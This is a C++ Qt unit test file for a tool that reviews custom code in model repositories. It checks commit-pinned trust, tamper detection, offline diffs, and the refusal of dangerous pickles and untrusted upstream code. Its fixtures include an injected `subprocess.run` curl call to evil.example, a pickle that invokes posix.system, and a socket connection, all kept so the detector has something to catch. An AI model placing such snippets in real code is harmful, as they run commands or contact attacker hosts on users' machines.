// Trust bound to commits: a branch name cannot be trusted, trust in one commit does not carry to
// another, changed files void an entry, the diff against the last trusted commit works offline,
// hostile pickles and untrusted upstream code refuse the load; the store is private and written
// atomically. The app data folder is isolated with XDG_DATA_HOME.

#include "review/code_review.h"
#include "review_fixtures.h"

#include <QDirIterator>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

// nlohmann::json values compared with what a user would read in the JSON output.
#define QCOMPARE_JSON(actual, expected)                                                                      \
    QVERIFY2((actual) == nlohmann::json(expected), (actual).dump().c_str())

using namespace mwb;
using namespace mwb::review;
using namespace mwb::review::fixtures;

namespace {

const QString kRepo = QStringLiteral("alice/custom-resnet50d");
const QString kCommit1 = QStringLiteral("ed94a7c6247d8aedce4647f00f20de6875b5b292");
const QString kCommit2 = QStringLiteral("1111111111111111111111111111111111111111");

} // namespace

class TestTrustReview : public QObject
{
    Q_OBJECT

    QTemporaryDir m_data;
    QTemporaryDir m_work;
    QString m_c1, m_c2;

    TrustStore store()
    {
        auto s = TrustStore::open();
        if (!s)
            qFatal("%s", s.error().message.c_str());
        return std::move(*s);
    }

    RepoReview review(const QString& dir,
                      const QString& commit,
                      const QString& revision,
                      const SnapshotProvider& provider = {},
                      const QString& repo = kRepo)
    {
        auto r = reviewSnapshot({dir, repo, commit, revision}, store(), provider);
        if (!r)
            qFatal("%s", r.error().message.c_str());
        return std::move(*r);
    }

private Q_SLOTS:
    void initTestCase()
    {
        qputenv("XDG_DATA_HOME", m_data.path().toUtf8());
        m_c1 = m_work.path() + "/c1";
        m_c2 = m_work.path() + "/c2";
        QVERIFY(writeTutorialRepo(m_c1));
        QVERIFY(writeTutorialRepo(m_c2, modelingWithSubprocess()));
    }

    void init() { QDir(TrustStore::defaultDirectory()).removeRecursively(); }

    void storeLivesInAppData()
    {
        QVERIFY(TrustStore::defaultDirectory().startsWith(m_data.path() + "/"));
        QVERIFY(TrustStore::defaultDirectory().endsWith("/trust"));
    }

    void branchOrTagCannotBeTrusted_data()
    {
        QTest::addColumn<QString>("revision");
        QTest::newRow("branch") << "main";
        QTest::newRow("tag") << "v1.0";
        QTest::newRow("short id") << "ed94a7c";
        QTest::newRow("upper-case id") << kCommit1.toUpper();
    }

    void branchOrTagCannotBeTrusted()
    {
        QFETCH(QString, revision);
        TrustStore s = store();
        const RepoReview r = review(m_c1, kCommit1, revision);
        const auto result = trustReviewedCommit(s, r, revision);
        QVERIFY(!result);
        QCOMPARE(result.error().kind, ErrorKind::InvalidInput);
        QVERIFY2(QString::fromStdString(result.error().message).contains("resolves to " + kCommit1),
                 result.error().message.c_str());
        QVERIFY(store().entries().empty());
        QVERIFY(!store().find(kRepo, kCommit1));
    }

    void untrustedCustomCodeIsRefused()
    {
        const RepoReview r = review(m_c1, kCommit1, "main");
        QVERIFY(r.customCode);
        QCOMPARE(r.trust.state, TrustState::Untrusted);
        QVERIFY(!r.diff);
        const auto allowed = checkLoadAllowed(r);
        QVERIFY(!allowed);
        QCOMPARE(allowed.error().kind, ErrorKind::Unsafe);
        QVERIFY(QString::fromStdString(allowed.error().message).contains(kCommit1));
    }

    void trustIsPerCommit()
    {
        TrustStore s = store();
        QVERIFY(trustReviewedCommit(s, review(m_c1, kCommit1, kCommit1), kCommit1, "read it all"));
        const RepoReview first = review(m_c1, kCommit1, kCommit1);
        QCOMPARE(first.trust.state, TrustState::Trusted);
        QVERIFY(checkLoadAllowed(first));
        const auto entry = store().find(kRepo, kCommit1);
        QVERIFY(entry);
        QCOMPARE(entry->note, QString("read it all"));
        QCOMPARE(entry->files.size(), size_t(2));
        QVERIFY(entry->date.secsTo(QDateTime::currentDateTimeUtc()) < 60);

        // The later commit adds a subprocess call: not trusted, found at its line, shown in the diff.
        const RepoReview second = review(m_c2, kCommit2, "main");
        QCOMPARE(second.trust.state, TrustState::Untrusted);
        QCOMPARE(checkLoadAllowed(second).error().kind, ErrorKind::Unsafe);
        const CodeFile* modeling = second.code.file("modeling_resnet.py");
        QVERIFY(modeling);
        const auto& findings = modeling->scan.findings;
        QVERIFY(std::any_of(findings.begin(), findings.end(), [](const Finding& f) {
            return f.line == 15 && f.severity == Severity::High && f.construct == "subprocess.run";
        }));
        QVERIFY(second.diff);
        QCOMPARE(second.diff->baseCommit, kCommit1);
        QCOMPARE(second.diff->files.size(), size_t(2));
        QCOMPARE(second.diff->files[0].change, FileDiff::Change::Unchanged);
        QCOMPARE(second.diff->files[1].change, FileDiff::Change::Modified);
        const QString diff = QString::fromStdString(second.diff->files[1].unifiedDiff);
        QVERIFY2(diff.startsWith("--- a/modeling_resnet.py\n+++ b/modeling_resnet.py\n@@ -1,3 +1,4 @@\n"
                                 "+import subprocess\n"),
                 qPrintable(diff));
        QVERIFY(diff.contains("\n+        subprocess.run([\"curl\", \"-s\", \"http://evil.example\"])\n"));
        QVERIFY2(diff.count(QRegularExpression("^[+-][^+-]", QRegularExpression::MultilineOption)) == 2,
                 qPrintable(diff));

        // Trusting the second commit does not change the first one's entry.
        QVERIFY(trustReviewedCommit(s, second, kCommit2));
        QCOMPARE(store().entries().size(), size_t(2));
        QVERIFY(checkLoadAllowed(review(m_c2, kCommit2, kCommit2)));
        QVERIFY(checkLoadAllowed(review(m_c1, kCommit1, kCommit1)));
    }

    void diffWorksFromStoredContent()
    {
        QTemporaryDir gone;
        QVERIFY(writeTutorialRepo(gone.path()));
        TrustStore s = store();
        QVERIFY(trustReviewedCommit(s, review(gone.path(), kCommit1, kCommit1), kCommit1));
        QVERIFY(gone.remove()); // the trusted snapshot is no longer on disk
        const RepoReview second = review(m_c2, kCommit2, kCommit2);
        QVERIFY(second.diff);
        QVERIFY(!second.diff->files[1].trustedContentMissing);
        QVERIFY(QString::fromStdString(second.diff->files[1].unifiedDiff).contains("+import subprocess"));
        QCOMPARE(s.storedContent(sha256Hex(kModelingResnet)), std::optional<QByteArray>(kModelingResnet));
    }

    void changedFileVoidsTrust()
    {
        QTemporaryDir dir;
        QVERIFY(writeTutorialRepo(dir.path()));
        TrustStore s = store();
        QVERIFY(trustReviewedCommit(s, review(dir.path(), kCommit1, kCommit1), kCommit1));
        QVERIFY(writeFile(dir.path() + "/modeling_resnet.py", modelingWithSubprocess())); // tampered cache
        const RepoReview r = review(dir.path(), kCommit1, kCommit1);
        QCOMPARE(r.trust.state, TrustState::Void);
        QCOMPARE(r.trust.changedFiles, QStringList{"modeling_resnet.py"});
        const auto allowed = checkLoadAllowed(r);
        QCOMPARE(allowed.error().kind, ErrorKind::Unsafe);
        QVERIFY(QString::fromStdString(allowed.error().message).contains("void"));

        // A new code file appearing at the same commit voids it too.
        QVERIFY(writeFile(dir.path() + "/modeling_resnet.py", kModelingResnet));
        QCOMPARE(review(dir.path(), kCommit1, kCommit1).trust.state, TrustState::Trusted);
        QVERIFY(writeFile(dir.path() + "/extra.py", "X = 1\n"));
        QVERIFY(writeFile(dir.path() + "/modeling_resnet.py", "from .extra import X\n" + kModelingResnet));
        QCOMPARE(review(dir.path(), kCommit1, kCommit1).trust.state, TrustState::Void);
    }

    void revoke()
    {
        TrustStore s = store();
        QVERIFY(trustReviewedCommit(s, review(m_c1, kCommit1, kCommit1), kCommit1));
        QVERIFY(s.revoke(kRepo, kCommit1));
        QCOMPARE(review(m_c1, kCommit1, kCommit1).trust.state, TrustState::Untrusted);
        QCOMPARE(s.revoke(kRepo, kCommit1).error().kind, ErrorKind::InvalidInput);
    }

    void storeIsPrivateAndAtomic()
    {
        TrustStore s = store();
        QVERIFY(trustReviewedCommit(s, review(m_c1, kCommit1, kCommit1), kCommit1));
        QVERIFY(trustReviewedCommit(s, review(m_c2, kCommit2, kCommit2), kCommit2));
        const QString dir = TrustStore::defaultDirectory();
        QCOMPARE(QFile::permissions(dir) & 0x0077, QFileDevice::Permissions{}); // nothing for group/other
        QCOMPARE(QFile::permissions(dir + "/blobs") & 0x0077, QFileDevice::Permissions{});
        QCOMPARE(QFile::permissions(s.indexPath()), QFileDevice::ReadOwner | QFileDevice::WriteOwner |
                                                        QFileDevice::ReadUser | QFileDevice::WriteUser);
        // Only trust.json and content-addressed blobs: no temporary files left behind.
        QStringList files;
        QDirIterator it(dir, QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
        while (it.hasNext())
            files << QDir(dir).relativeFilePath(it.next());
        files.sort();
        QCOMPARE(files.size(), 4); // trust.json, configuration_resnet.py, two versions of modeling_resnet.py
        QCOMPARE(files.last(), QString("trust.json"));
        for (const QString& f : files.mid(0, 3))
            QVERIFY(QRegularExpression("^blobs/[0-9a-f]{64}$").match(f).hasMatch());
        // The index is valid JSON naming the full commit ids.
        QFile index(s.indexPath());
        QVERIFY(index.open(QIODevice::ReadOnly));
        const auto doc = nlohmann::json::parse(index.readAll().toStdString());
        QCOMPARE(doc["entries"].size(), size_t(2));
        QCOMPARE_JSON(doc["entries"][0]["commit"], kCommit1.toStdString());
    }

    void corruptStoreIsAnError()
    {
        QVERIFY(writeFile(TrustStore::defaultDirectory() + "/trust.json", "{\"entries\": [{\"repo\": 1}]}"));
        const auto s = TrustStore::open();
        QVERIFY(!s);
        QCOMPARE(s.error().kind, ErrorKind::InvalidInput);
        QVERIFY(QString::fromStdString(s.error().message).contains("trust.json"));
    }

    void hostilePickleRefused()
    {
        QTemporaryDir dir;
        QVERIFY(writeFile(dir.path() + "/config.json", R"({"model_type": "resnet"})"));
        QVERIFY(writeFile(dir.path() + "/optimizer.pkl", benignPickle()));
        QVERIFY(writeFile(dir.path() + "/training_args.pkl", hostilePickle()));
        const RepoReview r = review(dir.path(), kCommit1, kCommit1);
        QVERIFY(!r.customCode);
        QCOMPARE(r.pickles.size(), size_t(2));
        QCOMPARE(r.pickles[0].path, QString("optimizer.pkl"));
        QCOMPARE(r.pickles[0].verdict, PickleVerdict::Safe);
        QCOMPARE(r.pickles[1].verdict, PickleVerdict::Dangerous);
        QCOMPARE(r.pickles[1].globals.at(0).module, std::string("posix"));
        QCOMPARE(r.pickles[1].globals.at(0).name, std::string("system"));
        const auto allowed = checkLoadAllowed(r);
        QCOMPARE(allowed.error().kind, ErrorKind::Unsafe);
        QVERIFY(QString::fromStdString(allowed.error().message).contains("posix.system"));
        const auto json = reviewToJson(r);
        QCOMPARE_JSON(json["pickle_imports"][1]["verdict"], "dangerous");
        QCOMPARE_JSON(json["load_allowed"], false);
    }

    void upstreamCodeNeedsItsOwnTrust()
    {
        QTemporaryDir main, shared;
        QVERIFY(writeFile(
            main.path() + "/config.json",
            R"({"model_type": "resnet", "auto_map": {"AutoModel": "acme/shared--modeling_shared.ResnetModel"}})"));
        QVERIFY(
            writeFile(shared.path() + "/modeling_shared.py", "import socket\nsocket.create_connection(a)\n"));
        const QString sharedCommit(40, 'a');
        int calls = 0;
        const SnapshotProvider provider = [&](const QString& repo,
                                              const QString& revision) -> Result<SnapshotRef> {
            ++calls;
            if (repo != "acme/shared")
                return fail(ErrorKind::Network, "no such repo");
            return SnapshotRef{shared.path(), repo, sharedCommit, revision};
        };
        TrustStore s = store();
        RepoReview r = review(main.path(), kCommit1, kCommit1, provider);
        QCOMPARE(calls, 1);
        QCOMPARE(r.upstream.size(), size_t(1));
        QCOMPARE(r.upstream[0].snapshot.repoId, QString("acme/shared"));
        QCOMPARE(r.upstream[0].snapshot.revision, QString("main"));
        QCOMPARE(r.upstream[0].code.files.at(0).scan.findings.at(1).line, 2);
        QVERIFY(trustReviewedCommit(s, r, kCommit1));
        r = review(main.path(), kCommit1, kCommit1, provider);
        QCOMPARE(r.trust.state, TrustState::Trusted);
        auto allowed = checkLoadAllowed(r);
        QCOMPARE(allowed.error().kind, ErrorKind::Unsafe);
        QVERIFY(QString::fromStdString(allowed.error().message).contains("acme/shared"));
        QVERIFY(trustReviewedCommit(s, r.upstream[0], sharedCommit));
        QVERIFY(checkLoadAllowed(review(main.path(), kCommit1, kCommit1, provider)));
        // Without a way to fetch the other repo, nothing is assumed.
        const RepoReview offline = review(main.path(), kCommit1, kCommit1);
        QCOMPARE(offline.unresolvedUpstream.size(), qsizetype(1));
        QCOMPARE(checkLoadAllowed(offline).error().kind, ErrorKind::Unsafe);
    }

    void nativeMatch()
    {
        const RepoReview r = review(m_c1, kCommit1, kCommit1);
        QVERIFY(r.native.canLoad);
        QCOMPARE(r.native.loadClass, std::string("ResnetModelForImageClassification"));
        QVERIFY(r.native.missing.empty());
        QCOMPARE(r.native.classes.size(), size_t(3));
        for (const ClassMatch& c : r.native.classes)
            QVERIFY2(c.native, c.className.c_str());

        const auto other = matchNativeModel(nlohmann::json::parse(R"({
            "model_type": "resnet",
            "architectures": ["MyResnetForSegmentation"],
            "auto_map": {"AutoConfig": "configuration_resnet.ResnetConfig",
                         "AutoModelForSemanticSegmentation": "modeling_seg.MyResnetForSegmentation",
                         "AutoTokenizer": ["tok.SlowTok", null]}})"));
        QVERIFY(!other.canLoad);
        QCOMPARE(other.missing, (std::vector<std::string>{"MyResnetForSegmentation", "SlowTok"}));
        QVERIFY(QString::fromStdString(other.message).contains("never runs"));

        const auto unknown = matchNativeModel(nlohmann::json::parse(R"({"model_type": "llama"})"));
        QVERIFY(!unknown.canLoad);
        QVERIFY(QString::fromStdString(unknown.message).contains("llama"));
    }

    void jsonReport()
    {
        const auto json = reviewToJson(review(m_c2, kCommit2, "main"));
        QCOMPARE_JSON(json["commit"], kCommit2.toStdString());
        QCOMPARE_JSON(json["revision"], "main");
        QCOMPARE_JSON(json["trusted"], false);
        QCOMPARE(json["files"].size(), size_t(2));
        const auto& modeling = json["files"][1];
        QCOMPARE_JSON(modeling["path"], "modeling_resnet.py");
        QCOMPARE_JSON(modeling["sha256"], sha256Hex(modelingWithSubprocess()).toStdString());
        QCOMPARE_JSON(modeling["third_party"], nlohmann::json::parse(R"(["timm", "torch", "transformers"])"));
        QCOMPARE_JSON(modeling["findings"][0]["line"], 1);
        QCOMPARE_JSON(modeling["findings"][0]["severity"], "medium");
        QCOMPARE_JSON(modeling["findings"][1]["line"], 15);
        QCOMPARE_JSON(modeling["findings"][1]["severity"], "high");
        QVERIFY(json["note"].get<std::string>().find("not a sandbox") != std::string::npos);
    }
};

QTEST_GUILESS_MAIN(TestTrustReview)
#include "test_trust_review.moc"
